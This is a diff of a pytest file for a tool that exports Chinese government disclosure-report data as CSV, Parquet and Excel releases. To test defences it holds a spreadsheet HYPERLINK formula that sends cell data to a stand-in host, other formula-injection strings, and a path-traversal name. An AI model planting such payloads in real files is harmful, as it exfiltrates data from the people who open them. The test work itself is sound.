@@ -5,64 +5,32 @@ from __future__ import annotations
 import csv
 import hashlib
 import json
+import re
 from pathlib import Path
 from typing import Any
 
-import duckdb
 import openpyxl
 import pandas as pd
 import pytest
+import yaml
 
-from export.form_sheet import UNIT, wide
+from export.citation import BY_HAND
+from export.labelled import READY
 from export.release import NotExported, export, releases
-from export.workbooks import NOT_RECEIVED, sheet_name
-from findings.record import record
-from tests.unit.findings.plain_rule import ONE_CELL, plain
-from tests.unit.warehouse.small_build import Small, make
+from tests.unit.export.small_release import FORMULA, build
+from warehouse.schema import VIEWS
 
-FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
 HOSTILE = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "\r=1")
 HARMLESS = ("减1237", "-5", "+3.5", "0%", "a=b", "")
 
 
-def build(folder: Path, asked: str = "7", extra: tuple[str, ...] = ()) -> Path:
-    """Two offices, one of them with a hostile name, and a finding on the requests of the first."""
-    draft = make(
-        folder,
-        Small(
-            1,
-            2021,
-            printed={
-                "t3.requests_new.total": asked,
-                "t3.granted.total": "/",
-                "t2.government_rules.issued": "?",
-            },
-        ),
-        Small(2, 2022),
-        offices={
-            1: {"name": "青禾县民政局", "province": "某省", "county": "青禾县"},
-            2: {"name": FORMULA, "county": "../../x"},
-        },
-    )
-    hostile = plain(ONE_CELL, severity="error", message_zh=FORMULA, message_en="not 0")
-    record(draft, {hostile.code: hostile})
-    with duckdb.connect(str(draft)) as connection:
-        for i, text in enumerate(extra):
-            connection.execute("INSERT INTO sections VALUES (2, 2022, 'overview', ?, ?)", [text, 100 + i])
-        connection.execute(
-            "UPDATE requests SET text = ?, value = NULL, status = 'unreadable'"
-            " WHERE office_id = 2 AND outcome = 'granted' AND applicant = 'total'",
-            [FORMULA],
-        )
-    return draft
-
-
 def test_a_release_is_whole_and_its_checksums_hold(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out")
+    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
     sums = dict(line.split("  ", 1)[::-1] for line in (release / "SHA256SUMS").read_text().splitlines())
     files = {p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()} - {"SHA256SUMS"}
     assert set(sums) == files
-    assert {"README.md", "CHANGES.md", "data-dictionary.md", "datapackage.json"} <= files
+    assert {"README.md", "CHANGES.md", "data-dictionary.md", "datapackage.json", "LICENSE.md"} <= files
+    assert {"CITATION.cff", "sources.csv", READY, "labelled/reports.csv"} <= files
     for name, digest in sums.items():
         assert hashlib.sha256((release / name).read_bytes()).hexdigest() == digest
     assert [p.name for p in (tmp_path / "out").iterdir()] == [release.name]  # no draft is left
@@ -89,29 +57,69 @@ def test_a_folder_that_cannot_be_written_is_told(tmp_path: Path) -> None:
         export(tmp_path / "damaged.duckdb", tmp_path / "other")
 
 
-def test_parquet_and_csv_hold_the_same_rows_blank_and_nil_apart(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
-    parquet = pd.read_parquet(release / "parquet" / "requests")
-    assert sorted(p.name for p in (release / "parquet" / "requests").iterdir()) == ["year=2021", "year=2022"]
-    listed = pd.read_csv(release / "csv" / "requests.csv")  # as people do it: the mark in front does no harm
+def test_parquet_and_csv_hold_the_same_rows_blank_and_nil_apart(released: Path) -> None:
+
+    parquet = pd.read_parquet(released / "parquet" / "requests")
+    assert sorted(p.name for p in (released / "parquet" / "requests").iterdir()) == ["year=2021", "year=2022"]
+    listed = pd.read_csv(released / "csv" / "requests.csv")  # as people do it: the mark in front does no harm
     assert next(iter(listed.columns)) == "office_id"
     assert len(parquet) == len(listed) == 2 * 175
-    cell = "office_id == 1 and outcome == 'granted' and applicant == 'total'"
-    for frame in (parquet, listed):
+    for frame, key in ((parquet, 1), (listed, "o1")):
+        cell = f"office_id == {key!r} and outcome == 'granted' and applicant == 'total'"
         (found,) = frame.query(cell).to_dict("records")
         assert (found["status"], found["text"], pd.isna(found["value"])) == ("slash", "/", True)
 
 
-def test_the_package_describes_every_csv(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
-    package = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
-    assert {r["path"] for r in package["resources"]} == {f"csv/{p.name}" for p in (release / "csv").iterdir()}
+def test_the_package_describes_every_csv(released: Path) -> None:
+
+    package = json.loads((released / "datapackage.json").read_text(encoding="utf-8"))
+    assert {r["path"] for r in package["resources"]} == {
+        f"csv/{p.name}" for p in (released / "csv").iterdir()
+    }
     for resource in package["resources"]:
-        with (release / resource["path"]).open(encoding=resource["encoding"], newline="") as file:
+        with (released / resource["path"]).open(encoding=resource["encoding"], newline="") as file:
             rows = list(csv.reader(file))
         assert rows[0] == [field["name"] for field in resource["schema"]["fields"]]
         assert len(rows) - 1 == resource["rows"]
         assert set(resource["schema"].get("primaryKey", [])) <= set(rows[0])
+
+
+def test_the_package_is_valid_for_frictionless(released: Path) -> None:
+    import frictionless
+
+    report = frictionless.Package(str(released / "datapackage.json")).validate()
+    assert not report.flatten(["name", "type", "note"])
+    package = json.loads((released / "datapackage.json").read_text(encoding="utf-8"))
+    assert [licence["name"] for licence in package["licenses"]] == ["CC-BY-4.0"]
+    assert set(VIEWS) <= {resource["name"] for resource in package["resources"]}
+    assert package["sources"][0]["title"].startswith(BY_HAND)
+
+
+def test_no_key_has_more_digits_than_a_spreadsheet_keeps(released: Path) -> None:
+    rounded = {}
+    for path in [*(released / "csv").iterdir(), *(released / "labelled").iterdir()]:
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            head, *rows = csv.reader(file)
+        rounded |= {
+            (path.name, head[x]): cell
+            for row in rows
+            for x, cell in enumerate(row)
+            if re.fullmatch(r"-?\d{16,}", cell)
+        }
+    assert not rounded
+    keys = {f"r{key}" for key in pd.read_parquet(released / "parquet" / "reports")["report_id"]}
+    assert set(pd.read_csv(released / "csv" / "reports.csv")["report_id"]) == keys
+
+
+def test_it_says_how_to_cite_it_and_what_may_be_done_with_it(released: Path) -> None:
+    build_of = released.name.removeprefix("gongkai-")
+    cited = yaml.safe_load((released / "CITATION.cff").read_text(encoding="utf-8"))
+    assert (cited["type"], cited["version"], cited["license"]) == ("dataset", build_of, "CC-BY-4.0")
+    assert str(cited["date-released"]) == f"{build_of[:4]}-{build_of[4:6]}-{build_of[6:8]}"
+    assert cited["references"][0]["version"] == "9.8.7"
+    words = (released / "LICENSE.md").read_text(encoding="utf-8")
+    assert "CC-BY-4.0" in words and "Apache-2.0" in words and build_of in words
+    assert "{" not in words + (released / "README.md").read_text(encoding="utf-8")
 
 
 def test_no_text_becomes_a_formula(tmp_path: Path) -> None:
@@ -124,98 +132,6 @@ def test_no_text_becomes_a_formula(tmp_path: Path) -> None:
     for path in (release / "workbooks").rglob("*.xlsx"):
         for sheet in openpyxl.load_workbook(path):
             assert not [c.coordinate for row in sheet for c in row if c.data_type == "f"]
-
-
-def test_workbooks_stay_in_their_folder_and_bear_findings_as_notes(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out")
-    found = sorted(
-        p.relative_to(release / "workbooks").as_posix() for p in (release / "workbooks").rglob("*.xlsx")
-    )
-    assert len(found) == 2 and not [name for name in found if ".." in name]
-    book = openpyxl.load_workbook(release / "workbooks" / next(n for n in found if "青禾县民政局" in n))
-    assert book.sheetnames == ["目录 Contents", "2021 青禾县民政局"]
-    page = book["2021 青禾县民政局"]
-    cells = [c for row in page for c in row]
-    (noted,) = [c for c in cells if c.comment]
-    assert noted.value == 7 and FORMULA in noted.comment.text
-    values = [c.value for c in cells]
-    assert {"（一）予以公开", "法律服务机构", "未经复议直接起诉", "/", "？"} <= set(values)
-    merged = {str(r) for r in page.merged_cells.ranges}
-    assert len(merged) > 30
-
-
-def test_the_contents_list_every_finding_with_a_link_to_its_cell(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out")
-    (path,) = (release / "workbooks").rglob("青禾县民政局*.xlsx")
-    book = openpyxl.load_workbook(path)
-    contents, page = book.worksheets
-    listed = [[cell.value for cell in row] for row in contents]
-    assert listed[1][:6] == ["青禾县民政局", "某省 青禾县", 2021, "完整 parsed", 1, 1]
-    (row,) = [r for r in contents if r[4].value and FORMULA in str(r[4].value)]
-    _, _, target = row[1].hyperlink.location.rpartition("!")
-    assert page[target].value == 7 and page[target].comment  # the cell that the finding is about
-    for sheet in book:
-        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (9, 0)
-        assert sheet.freeze_panes and sheet.sheet_properties.pageSetUpPr.fitToPage
-
-
-def test_labels_are_whole_in_their_cells(tmp_path: Path) -> None:
-    release = export(build(tmp_path / "one"), tmp_path / "out")
-    (path,) = (release / "workbooks").rglob("青禾县民政局*.xlsx")
-    page = openpyxl.load_workbook(path).worksheets[1]
-    across = {str(r).partition(":")[0]: r for r in page.merged_cells.ranges}
-    for cell in (c for row in page.iter_rows(min_row=4) for c in row if isinstance(c.value, str)):
-        merged = across.get(cell.coordinate)
-        columns = merged.size["columns"] if merged else 1
-        rows = range(cell.row, cell.row + (merged.size["rows"] if merged else 1))
-        if cell.font.b:
-            continue  # the title of a table runs over the empty cells beside it
-        points = sum(page.row_dimensions[row].height or 15 for row in rows)
-        lines = -(-wide(cell.value) // (columns * UNIT))
-        assert lines * 12 <= points, cell.value
-
-
-@pytest.mark.parametrize(
-    ("wanted", "name"),
-    [
-        ("2021 某局", "2021 某局"),
-        ("2021 [某]:局*?/\\'", "2021  某  局"),
-        ("2021 某\x07\x1b[31m局\u202e", "2021 某   31m局"),
-        ("\x00\x01", "报告"),
-        ("某" * 40, "某" * 31),
-    ],
-    ids=["plain", "forbidden", "control", "nothing-left", "long"],
-)
-def test_names_of_sheets_are_what_excel_takes(wanted: str, name: str) -> None:
-    taken: set[str] = set()
-    assert sheet_name(wanted, taken) == name
-    assert sheet_name(wanted, taken) == f"{name[:29]} 2"
-
-
-def test_a_county_is_one_workbook_with_what_is_due_and_what_was_not_read(tmp_path: Path) -> None:
-    draft = build(tmp_path / "one")
-    with duckdb.connect(str(draft)) as connection:
-        connection.execute(
-            "INSERT INTO offices BY NAME SELECT 3 AS office_id, '教育局' AS name, '某省' AS province,"
-            " '青禾县' AS county, 'resolved' AS resolution"
-        )
-        connection.execute(
-            "INSERT INTO due_reports BY NAME SELECT 3 AS office_id, 2022 AS year, 'roster' AS basis"
-        )
-        connection.execute(
-            "INSERT INTO reports BY NAME FROM (SELECT * REPLACE (77 AS report_id, 3 AS office_id, 'x.pdf' AS"
-            " raw_path, 'quarantined' AS status, 2021 AS year) FROM reports WHERE office_id = 1)"
-        )
-    release = export(draft, tmp_path / "out", "county")
-    contents = openpyxl.load_workbook(release / "workbooks/某省/青禾县.xlsx").worksheets[0]
-    lines = [[cell.value for cell in row] for row in contents][1:5]
-    assert [line[:4] for line in lines] == [
-        ["青禾县民政局", "某省 青禾县", 2021, "完整 parsed"],
-        ["教育局", "某省 青禾县", 2022, NOT_RECEIVED],
-        ["青禾县民政局", "某省 青禾县", 2022, NOT_RECEIVED],
-        ["教育局", "某省 青禾县", 2021, "未能读取 quarantined"],
-    ]
-    assert lines[3][6] == "x.pdf"
 
 
 def test_the_next_release_says_what_it_changes(tmp_path: Path) -> None:
